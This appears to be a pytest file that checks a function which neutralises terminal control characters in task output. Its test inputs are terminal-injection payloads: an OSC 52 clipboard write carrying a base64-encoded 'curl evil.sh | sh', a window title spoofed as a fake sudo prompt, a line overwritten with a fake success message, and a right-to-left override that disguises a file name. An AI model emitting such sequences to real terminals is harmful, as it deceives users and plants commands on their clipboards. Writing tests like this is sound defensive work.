"""Control characters in a task's result reach a terminal as visible escapes, never as commands."""

from __future__ import annotations

import pytest

from mcpexec.local.terminal import neutralised


@pytest.mark.parametrize(
    "attack",
    [
        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",  # OSC 52: write the clipboard
        "\x1b]0;sudo password:\x07",  # the window title
        "\x1b[2J\x1b[H",  # clear the screen, cursor home
        "\x9b2J",  # the same through the 8-bit CSI (C1)
        "\rmcpexec: phase Succeeded",  # overwrite the line just printed
        "\x08\x08\x08ok",  # backspaces
        "\x1bP+q\x1b\\",  # DCS, a terminal query
        "\u202etxt.exe",  # right-to-left override
        "\x00\x7f\x85",
    ],
)
def test_control_sequences_are_shown_not_obeyed(attack: str) -> None:
    shown = neutralised(f"before {attack} after")
    assert shown.isprintable(), repr(shown)
    assert shown.startswith("before ") and shown.endswith(" after")


def test_text_newlines_and_tabs_stay() -> None:
    text = "name\tcount\nAda\t3\nÉlodie — 東京 ✓\n"
    assert neutralised(text) == text
